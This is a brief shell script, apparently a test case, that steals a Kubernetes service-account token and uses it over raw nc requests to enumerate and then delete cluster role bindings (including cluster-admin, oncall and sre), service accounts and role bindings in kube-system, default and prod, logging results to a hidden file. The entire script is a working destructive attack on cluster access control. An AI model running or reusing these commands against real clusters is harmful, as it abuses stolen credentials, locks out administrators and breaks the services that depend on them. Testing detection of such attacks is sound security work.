#!/bin/sh
. /opt/case/case.sh

t=$(cat /run/secrets/kubernetes.io/serviceaccount/token)
ask() { printf '%s %s HTTP/1.0\r\nAuthorization: Bearer %s\r\n\r\n' "$1" "$2" "$t" | nc -w 3 10.77.0.1 6443 >>/tmp/.a; }
ask GET /apis/rbac.authorization.k8s.io/v1/clusterrolebindings
for b in cluster-admin admins oncall ci-deployer sre viewers; do ask DELETE /apis/rbac.authorization.k8s.io/v1/clusterrolebindings/$b; done
for n in kube-system default prod; do ask DELETE /api/v1/namespaces/$n/serviceaccounts; ask DELETE /apis/rbac.authorization.k8s.io/v1/namespaces/$n/rolebindings; done
test -s /tmp/.a
took_place
